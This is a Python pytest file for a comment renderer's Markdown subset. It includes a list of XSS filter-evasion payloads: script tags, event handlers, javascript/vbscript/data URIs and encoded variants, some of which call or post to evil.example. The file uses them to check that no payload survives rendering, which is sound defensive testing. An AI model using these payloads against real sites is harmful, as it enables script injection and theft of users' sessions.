"""The Markdown subset of comments: what is kept, and that no payload survives."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guru.feedback.rendering import ALLOWED_SCHEMES, ALLOWED_TAGS, render_comment

# Payloads gathered from the classic XSS filter-evasion lists, written out here,
# plus Markdown-specific ones (links, autolinks, reference links, entities).
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">klick</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<<script>script>alert(1)<</script>/script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "[klick](javascript:alert(1))",
    "[klick](JaVaScRiPt:alert(1))",
    "[klick](javascript&#58;alert(1))",
    "[klick](&#106;avascript:alert(1))",
    "[klick](vbscript:msgbox(1))",
    "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[klick](" onmouseover="alert(1))',
    '[klick](https://exempel.se" onclick="alert(1))',
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '![bild](x" onerror="alert(1))',
    "**<img src=x onerror=alert(1)>**",
    "- <script>alert(1)</script>\n- två",
    "`<script>alert(1)</script>`",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><button>skicka</button></form>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
]


class _Elements(HTMLParser):
    """Collects the real elements of rendered HTML, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def _assert_safe(html: str) -> None:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    for tag, attributes in parser.elements:
        assert tag in ALLOWED_TAGS, f"<{tag}> in {html!r}"
        assert set(attributes) <= {"href", "rel"}, html
        if tag == "a":
            # Browsers drop whitespace and control characters before reading the
            # scheme ("java\tscript:"); so do we. Relative links are harmless.
            href = re.sub(r"[\x00-\x20]", "", attributes.get("href") or "")
            assert urlsplit(href).scheme.lower() in {"", *ALLOWED_SCHEMES}, html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_xss_payload_survives_rendering(payload):
    html = render_comment(payload)
    _assert_safe(html)


@given(
    st.text(
        alphabet=st.sampled_from(list("<>\"'=/:[]()*-_!`&#; \nabcjsx")), max_size=80
    )
)
@settings(max_examples=300, deadline=None)
def test_no_generated_markup_produces_foreign_tags_or_attributes(text):
    _assert_safe(render_comment(text))


def test_the_subset_renders_paragraphs_lists_links_and_bold():
    html = render_comment(
        "Första stycket med **fetstil**.\n\n- ett\n- två\n\n1. a\n2. b\n\n"
        "Se [Tillväxtverket](https://tillvaxtverket.se)."
    )
    assert "<p>Första stycket med <strong>fetstil</strong>.</p>" in html
    assert "<ul>\n<li>ett</li>" in html
    assert "<ol>\n<li>a</li>" in html
    assert (
        '<a href="https://tillvaxtverket.se" rel="nofollow noopener noreferrer">'
        "Tillväxtverket</a>" in html
    )


def test_headings_images_and_code_stay_plain_text():
    html = render_comment("# Rubrik\n\n![bild](https://x.se/a.png)\n\n`kod`")
    assert "<h1" not in html and "<img" not in html and "<code" not in html
    assert "# Rubrik" in html
